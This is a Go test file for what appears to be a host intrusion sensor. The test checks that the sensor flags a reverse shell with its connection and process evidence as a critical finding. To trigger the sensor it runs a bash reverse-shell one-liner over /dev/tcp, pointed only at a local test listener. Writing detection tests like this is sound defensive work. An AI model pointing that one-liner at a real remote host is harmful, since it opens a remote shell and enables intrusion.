package main

import (
	"net"
	"os/exec"
	"testing"

	"kingsnake/finding"
)

func TestAShellOnAConnectionBecomesAFinding(t *testing.T) {
	needSensor(t)
	in := start(t, "up", t.TempDir())
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	// An imitation that reaches nobody but this test.
	cmd := exec.Command("bash", "-c", `exec bash --norc </dev/tcp/127.0.0.1/$1 >&0 2>&0`, "bash", portOf(l))
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	far, err := l.Accept()
	if err != nil {
		t.Fatal(err)
	}
	var got finding.Finding
	await(t, "the finding of the shell", func() bool {
		for _, f := range in.findings() {
			if f.Category == finding.ReverseShell && f.Process.PID == cmd.Process.Pid {
				got = f
				return true
			}
		}
		return false
	})
	far.Close() // and the shell ends
	_ = cmd.Wait()
	if len(got.Connections) != 1 || got.Connections[0].Peer != l.Addr().String() || got.Severity != finding.Critical ||
		got.Process.ExeSHA256 == "" || len(got.Process.Parents) == 0 || got.Process.Args[1] != "--norc" {
		t.Errorf("want a connection with %s and all evidence, got %+v", l.Addr(), got)
	}
}

func portOf(l net.Listener) string {
	_, port, _ := net.SplitHostPort(l.Addr().String())
	return port
}
